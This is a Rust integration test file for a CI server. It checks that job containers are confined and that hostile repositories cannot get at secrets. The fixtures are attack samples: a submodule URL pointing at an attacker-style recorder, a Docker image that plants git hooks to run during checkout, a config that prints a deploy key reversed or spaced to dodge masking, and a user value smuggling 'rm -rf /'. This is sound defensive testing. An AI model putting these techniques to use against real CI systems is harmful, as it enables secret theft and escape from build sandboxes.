//! Strangers' code, contained: what a repository's content, its config file and its job image try
//! in order to reach beyond their own run, and fail to. Master and agent processes, real Postgres,
//! RabbitMQ, s3s-fs and Docker; the git servers and recorders are the test's own, on the Docker
//! bridge's gateway where the agent's containers reach them.
#![allow(clippy::unwrap_used)]

mod support;

use std::time::Duration;

use serde_json::{json, Value};
use sqlx::PgPool;
use support::recorder::Recorder;
use support::{bridge_gateway, docker, leftovers, run_id, AgentOptions, GitServer, Stack};

const WAIT: Duration = Duration::from_secs(120);
/// What a git server that has no such repository answers.
const NOT_FOUND: &str = "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";

async fn run_to_end(stack: &Stack, job: &str) -> (Value, String) {
    let reply = stack.api.post(&format!("/jobs/{job}/runs"), json!({"branchName": "main"})).await;
    assert_eq!(reply.status, 201, "{}", reply.body);
    let path = reply.body["links"]["self"].as_str().unwrap().to_owned();
    let run = stack.wait_finished(&path, WAIT).await;
    let console = stack.console(&path).await;
    assert_eq!(leftovers(&run_id(&path)).await, (0, 0));
    (run, console)
}

/// A repository whose `.gitmodules` names a server of the attacker's: the checkout fetches the
/// submodule there, and the job's repository token goes to the repository's own URL only.
#[sqlx::test(migrations = "../migrations")]
async fn a_submodule_on_another_server_gets_no_token(pool: PgPool) {
    let attacker = Recorder::start(&bridge_gateway(), NOT_FOUND);
    let git = GitServer::start();
    git.repo("private");
    let config = "image: busybox:latest\ncheckout: {submodules: true}\nscript: echo checked out\n";
    let head = git.commit("private", "main", &[(".cimaster.yml", config)]);
    let modules = format!("[submodule \"lib\"]\n\tpath = lib\n\turl = http://{}/stolen.git\n", attacker.address());
    git.commit("private", "main", &[(".gitmodules", &modules)]);
    git.git("private", &["update-index", "--add", "--cacheinfo", &format!("160000,{head},lib")]);
    git.git("private", &["commit", "-q", "-m", "a submodule elsewhere"]);
    let token = "ghp_repository-token-for-private-only";
    let (base, _server) = git.http(token);
    let mut stack = Stack::start(pool).await;
    stack.add_agent(AgentOptions::default()).await;
    let job = json!({"kind": "git", "repository": format!("{base}/private/.git"), "tokenSecret": "GIT_TOKEN"});
    stack.put_job("private", job).await;
    assert_eq!(stack.api.put("/jobs/private/secrets/GIT_TOKEN", json!({"value": token})).await.status, 201);

    let (run, console) = run_to_end(&stack, "private").await;
    // The repository itself was read with the token; the submodule's server has nothing.
    assert!(console.contains("fetching"), "{console}");
    assert_eq!(run["status"], "error", "{run}");
    let asked = attacker.requests();
    assert!(!asked.is_empty(), "the checkout asked the submodule's server: {console}");
    assert!(
        asked.iter().all(|request| !request.contains("| ")),
        "credentials went to the submodule's server: {asked:?}"
    );
}

/// An image whose ENTRYPOINT waits for the workspace's `.git/hooks` and plants hooks there, to run
/// as the git helper (which holds the credentials, every workspace of the agent and the mirror
/// later runs check out from). The checkout ends before the image's code starts: it plants into
/// its own workspace only, and nothing it planted ever runs.
#[sqlx::test(migrations = "../migrations")]
async fn an_image_that_plants_a_hook_during_the_checkout_gains_nothing(pool: PgPool) {
    let image = planter_image();
    let git = GitServer::start();
    let url = git.repo("big");
    // Thousands of files: the checkout takes long enough for a planter that runs beside it.
    let files: Vec<(String, String)> =
        (0..4500).map(|i| (format!("src/{}/f{i}.txt", i % 45), format!("{i}\n"))).collect();
    let mut all: Vec<(&str, &str)> = files.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
    let config = format!(
        "image: {image}\nscript:\n  - cat /workspace/.planted 2>/dev/null || echo nothing-ran\n  - ls /workspace/.git/hooks\n"
    );
    all.push((".cimaster.yml", &config));
    git.commit("big", "main", &all);
    let mut stack = Stack::start(pool).await;
    stack.add_agent(AgentOptions::default()).await;
    stack.put_job("big", json!({"kind": "git", "repository": url})).await;

    for _ in 0..2 {
        let (run, console) = run_to_end(&stack, "big").await;
        assert_eq!(run["status"], "succeeded", "{run}\n{console}");
        // The planter reached its own workspace's hooks, after the checkout.
        assert!(console.contains("post-checkout"), "{console}");
        assert!(console.contains("nothing-ran") && !console.contains("PLANTED"), "{console}");
    }
    let agent = format!("label=cimaster.agent={}", stack.agents[0].id);
    let mirrors = docker(&["volume", "ls", "-q", "--filter", "label=cimaster.mirror", "--filter", &agent]);
    let mirror = mirrors.lines().next().expect("the repository's mirror");
    let listing = docker(&["run", "--rm", "-v", &format!("{mirror}:/m:ro"), "busybox:latest", "ls", "-a", "/m"]);
    assert!(!listing.contains("planted"), "the mirror was written to: {listing}");
}

/// A busybox image whose ENTRYPOINT starts a planter in the background, then runs the command it
/// was given: for 60 s the planter writes hooks into `/workspace/.git/hooks` whenever it exists.
/// A hook that runs writes what it sees into the workspace and marks the mirror.
fn planter_image() -> String {
    let tag = "cimaster-test-planter:1";
    let dir = tempfile::tempdir().unwrap();
    let hook = r#"#!/bin/sh
{ echo PLANTED; id; ls /workspaces; env | grep -c CIMASTER_GIT; } > "${CIMASTER_WORKSPACE:-/workspace}/.planted" 2>&1
touch /mirror/planted
"#;
    let plant = r#"#!/bin/sh
(
  i=0
  while [ $i -lt 6000 ]; do
    if [ -d /workspace/.git/hooks ]; then
      for name in post-checkout post-merge reference-transaction post-index-change; do
        cp /hook /workspace/.git/hooks/$name 2>/dev/null && chmod +x /workspace/.git/hooks/$name
      done
    fi
    i=$((i + 1))
    sleep 0.01
  done
) &
exec "$@"
"#;
    std::fs::write(dir.path().join("hook"), hook).unwrap();
    std::fs::write(dir.path().join("plant"), plant).unwrap();
    let dockerfile =
        "FROM busybox:latest\nCOPY hook /hook\nCOPY plant /plant\nRUN chmod +x /hook /plant\nENTRYPOINT [\"/plant\"]\n";
    std::fs::write(dir.path().join("Dockerfile"), dockerfile).unwrap();
    docker(&["build", "-q", "-t", tag, &dir.path().display().to_string()]);
    tag.to_owned()
}

/// The job container as the engine holds it: every capability dropped but the few a build needs,
/// no new privileges, a pids limit, the job's CPUs and memory, no swap, and nothing of the host
/// mounted but the run's read-only name files.
#[sqlx::test(migrations = "../migrations")]
async fn a_job_container_is_confined(pool: PgPool) {
    let mut stack = Stack::start(pool).await;
    stack.add_agent(AgentOptions::default()).await;
    let job = json!({"kind": "freestyle", "image": "busybox:latest", "script": "sleep 60",
                     "resources": {"cpus": 0.5, "memory": "64Mi"}});
    stack.put_job("confined", job).await;
    let path = stack.trigger("confined").await;
    stack.wait_for(&path, WAIT, |status| status == "running").await;
    let name = format!("cimaster-{}-1", run_id(&path));
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    let inspected = loop {
        let out = std::process::Command::new("docker").args(["inspect", &name]).output().unwrap();
        if out.status.success() {
            let inspected = serde_json::from_slice::<Value>(&out.stdout).unwrap()[0].clone();
            if inspected["State"]["Running"] == true {
                break inspected;
            }
        }
        assert!(std::time::Instant::now() < deadline, "the job container {name} did not start");
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let host = &inspected["HostConfig"];
    assert_eq!(host["CapDrop"], json!(["ALL"]), "{host}");
    let mut added: Vec<&str> = host["CapAdd"].as_array().unwrap().iter().map(|cap| cap.as_str().unwrap()).collect();
    added.sort_unstable();
    assert_eq!(added, ["CHOWN", "DAC_OVERRIDE", "FOWNER", "FSETID", "KILL", "NET_BIND_SERVICE", "SETGID", "SETUID"]);
    assert_eq!(host["Privileged"], false);
    assert!(host["SecurityOpt"].as_array().unwrap().contains(&json!("no-new-privileges")), "{host}");
    assert!(host["PidsLimit"].as_i64().unwrap() > 0, "{host}");
    assert_eq!(host["NanoCpus"], 500_000_000);
    assert_eq!(host["Memory"], 64 << 20);
    assert_eq!(host["MemorySwap"], 64 << 20, "no swap beyond the memory");
    assert!(host["PortBindings"].as_object().is_none_or(|ports| ports.is_empty()), "{host}");
    for mount in inspected["Mounts"].as_array().unwrap() {
        assert_eq!(mount["RW"], false, "only read-only mounts: {mount}");
        let source = mount["Source"].as_str().unwrap();
        assert!(source.contains("/containers/"), "only the sandbox's name files: {mount}");
    }
    // From inside: no capability beyond those, and no way to gain one.
    let status = docker(&["exec", &name, "cat", "/proc/self/status"]);
    let field = |key: &str| {
        status.lines().find(|line| line.starts_with(key)).unwrap().split_whitespace().nth(1).unwrap().to_owned()
    };
    assert_eq!(u64::from_str_radix(&field("CapBnd:"), 16).unwrap(), 0x4fb, "{status}");
    assert_eq!(field("NoNewPrivs:"), "1", "{status}");
    assert_eq!(stack.api.post(&format!("{path}/abort"), json!({})).await.status, 202);
    stack.wait_finished(&path, WAIT).await;
    assert_eq!(leftovers(&run_id(&path)).await, (0, 0));
}

/// A trigger token runs a job that has a deploy key on a branch of its own whose config file prints
/// the key in forms masking cannot catch. The key is limited to `main`: the run starts without it
/// and says why, whether the branch is named or its commit given; runs of `main` get it.
#[sqlx::test(migrations = "../migrations")]
async fn a_trigger_tokens_run_on_another_branch_cannot_print_a_branch_limited_secret(pool: PgPool) {
    const KEY: &str = "deploy-key-0123456789abcdef";
    let git = GitServer::start();
    let url = git.repo("app");
    let trusted = "image: busybox:latest\nsecrets: [DEPLOY_KEY, NIGHTLY]\n\
                   script: test -n \"$DEPLOY_KEY\" && echo deploy key here; test -n \"$NIGHTLY\" && echo nightly here; true\n";
    let main = git.commit("app", "main", &[(".cimaster.yml", trusted)]);
    let hostile = "image: busybox:latest\nsecrets: [DEPLOY_KEY]\n\
                   script:\n  - echo \"$DEPLOY_KEY\" | rev\n  - echo \"$DEPLOY_KEY\" | sed 's/./& /g'\n  - echo end\n";
    let attack = git.commit("app", "attack", &[(".cimaster.yml", hostile)]);
    let mut stack = Stack::start(pool).await;
    stack.add_agent(AgentOptions::default()).await;
    stack.put_job("deploy", json!({"kind": "git", "repository": url, "secrets": ["DEPLOY_KEY", "NIGHTLY"]})).await;
    let scoped = stack.api.put("/jobs/deploy/secrets/DEPLOY_KEY", json!({"value": KEY, "branches": ["main"]})).await;
    assert_eq!(scoped.status, 201, "{}", scoped.body);
    assert_eq!(scoped.body["branches"], json!(["main"]));
    let nightly = json!({"value": "nightly-token-0123", "events": ["schedule"]});
    assert_eq!(stack.api.put("/jobs/deploy/secrets/NIGHTLY", nightly).await.status, 201);
    let listed = stack.api.get("/jobs/deploy/secrets").await;
    assert_eq!(listed.body["secrets"][1]["events"], json!(["schedule"]), "{}", listed.body);
    for bad in [
        json!({"value": "x", "branches": []}),
        json!({"value": "x", "events": ["merge"]}),
        json!({"value": "x", "branches": ["bad branch"]}),
    ] {
        let reply = stack.api.put("/jobs/deploy/secrets/BAD", bad).await;
        assert!(matches!(reply.status, 400 | 422), "{}", reply.body);
    }

    let trigger = stack.api.as_role("mallory", cimaster_master::auth::Role::Trigger);
    let reversed: String = KEY.chars().rev().collect();
    let spaced: String = KEY.chars().map(|c| format!("{c} ")).collect();
    for body in [json!({"branchName": "attack"}), json!({"commitSha": attack})] {
        let reply = trigger.post("/jobs/deploy/runs", body).await;
        assert_eq!(reply.status, 201, "{}", reply.body);
        let path = reply.body["links"]["self"].as_str().unwrap().to_owned();
        let run = stack.wait_finished(&path, WAIT).await;
        let console = stack.console(&path).await;
        assert_eq!(run["status"], "succeeded", "{run}\n{console}");
        assert!(console.contains("end"), "{console}");
        for form in [KEY, reversed.as_str(), spaced.trim_end()] {
            assert!(!console.contains(form), "the key, as `{form}`, reached the console: {console}");
        }
        assert!(console.contains("secret DEPLOY_KEY withheld: limited to branches main"), "{console}");
    }

    // main, by name or by its tip's commit alone, gets the key; an API run is no schedule.
    for body in [json!({"branchName": "main"}), json!({"commitSha": main})] {
        let reply = trigger.post("/jobs/deploy/runs", body).await;
        assert_eq!(reply.status, 201, "{}", reply.body);
        let path = reply.body["links"]["self"].as_str().unwrap().to_owned();
        stack.wait_finished(&path, WAIT).await;
        let console = stack.console(&path).await;
        assert!(console.contains("deploy key here"), "{console}");
        assert!(!console.contains("nightly here"), "{console}");
        assert!(console.contains("secret NIGHTLY withheld: limited to events schedule"), "{console}");
    }
}

/// A job can run its script as a user other than root (`user`); a malformed one is refused.
#[sqlx::test(migrations = "../migrations")]
async fn a_job_can_run_as_another_user_than_root(pool: PgPool) {
    let mut stack = Stack::start(pool).await;
    stack.add_agent(AgentOptions::default()).await;
    let job = json!({"kind": "freestyle", "image": "busybox:latest", "script": "echo \"uid=$(id -u) gid=$(id -g)\"",
                     "user": "1000:1000", "resources": {"cpus": 0.5, "memory": "64Mi"}});
    stack.put_job("unprivileged", job).await;
    let path = stack.trigger("unprivileged").await;
    let run = stack.wait_finished(&path, WAIT).await;
    let console = stack.console(&path).await;
    assert_eq!(run["status"], "succeeded", "{run}\n{console}");
    assert!(console.contains("uid=1000 gid=1000"), "{console}");
    let bad = json!({"kind": "freestyle", "image": "busybox:latest", "script": "true", "user": "root; rm -rf /"});
    let reply = stack.api.put("/jobs/bad-user", bad).await;
    assert_eq!(reply.status, 422, "{}", reply.body);
    assert!(
        reply.body["detail"].as_str().unwrap().contains("must be `uid`, `uid:gid` or a user name"),
        "{}",
        reply.body
    );
}
